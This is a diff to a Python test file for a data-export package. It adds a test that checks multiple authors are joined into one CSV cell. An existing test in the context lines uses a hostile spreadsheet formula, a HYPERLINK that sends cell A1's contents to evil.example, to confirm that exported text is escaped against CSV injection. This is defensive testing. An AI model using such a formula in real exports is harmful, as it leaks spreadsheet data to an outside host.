@@ -10,6 +10,8 @@ import pytest
 from stances.exchange.csv import csv_text, spreadsheet_text
 from stances.exchange.json import json_text
 from stances.exchange.terminal import table_text
+from stances.model.records import Author
+from stances.tables.rows import SourceRow, frame_of
 
 FRAME = pd.DataFrame(
     {
@@ -53,6 +55,12 @@ def test_no_carriage_return_in_a_text_begins_a_row() -> None:
     hostile = 'Ann\r=HYPERLINK("http://evil.example/?"&A1,"total"),,'
     text = spreadsheet_text(pd.DataFrame({"a": [hostile], "b": ["B\r\n=1"]}))
     assert text == '\ufeffa,b\n"' + hostile.replace('"', '""') + '","B\r\n=1"\n'
+
+
+def test_several_authors_stand_in_one_cell_as_they_are_read() -> None:
+    rows = [SourceRow("s", author=(Author(family="Doe", given="Jane"), Author(name="NATO")))]
+    text = csv_text(frame_of(rows, SourceRow))
+    assert next(csv.DictReader(io.StringIO(text)))["author"] == "Jane Doe; NATO"
 
 
 def test_json_has_nulls_and_real_numbers() -> None:
